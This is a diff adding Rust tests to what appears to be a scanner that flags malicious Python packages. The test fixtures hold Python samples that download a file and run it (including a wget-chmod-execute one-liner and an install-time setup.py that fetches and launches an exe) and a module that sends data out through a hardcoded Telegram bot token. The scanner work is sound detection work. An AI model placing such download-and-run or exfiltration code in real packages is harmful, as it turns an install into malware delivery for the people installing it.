@@ -464,3 +464,43 @@ fn a_module_imported_by_a_decoded_name_to_run_code_is_malicious() {
     let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", plugin)]);
     assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn a_telegram_bot_token_shipped_with_code_that_sends_is_malicious() {
+    // costrar: the token in an attribute, the URL built around it.
+    let token = format!("7000000000:AA{}", "x".repeat(33));
+    let module = format!(
+        "import requests\n\nclass Bot:\n    def __init__(self):\n        self.token = '{token}'\n    def send(self, text):\n        requests.post(f'https://api.telegram.org/bot{{self.token}}/sendMessage', params={{'text': text}})\n"
+    );
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", &module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // A bot library takes the token from its user.
+    let library = "import requests\n\nclass Bot:\n    def __init__(self, token):\n        self.token = token\n    def send(self, text):\n        requests.post(f'https://api.telegram.org/bot{self.token}/sendMessage', params={'text': text})\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", library)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn running_the_file_a_function_downloaded_is_malicious_wherever_it_runs() {
+    let retrieve = "import os, subprocess, urllib.request\n\ndef update(url):\n    path = os.path.join('storage', 'helper.exe')\n    urllib.request.urlretrieve(url, path)\n    subprocess.run([path], check=True)\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/helper.py", retrieve)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    let write = "import requests, subprocess\nFILE = 'helper.bin'\n\ndef fetch():\n    r = requests.get('http://127.0.0.1:9/', stream=True)\n    with open(FILE, 'wb') as f:\n        f.write(r.content)\n    subprocess.Popen([FILE])\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/helper.py", write)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    let one_command = "import subprocess\n\ndef go(name):\n    subprocess.run(f'wget -qO /tmp/{name} http://127.0.0.1:9/x && chmod +x /tmp/{name} && /tmp/{name}', shell=True)\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/helper.py", one_command)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // Downloading a file and running a tool on it is not running it.
+    let tool = "import subprocess, urllib.request\n\ndef unpack(url, path):\n    urllib.request.urlretrieve(url, path)\n    subprocess.run(['tar', 'xf', path], check=True)\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/helper.py", tool)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn a_windows_program_url_and_a_spawn_at_install_are_malicious() {
+    // jas9do1: curl reached through a variable, then the download started.
+    let setup = "import os, subprocess\nfrom setuptools import setup\npath = os.environ['TEMP'] + '\\\\x.exe'\ncurl = os.environ['WINDIR'] + '\\\\System32\\\\curl.exe'\nsubprocess.call([curl, 'http://127.0.0.1:9/x.exe', '-o', path])\nsubprocess.call([path])\nsetup(name='pkg')\n";
+    let r = sdist(&[("setup.py", setup)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
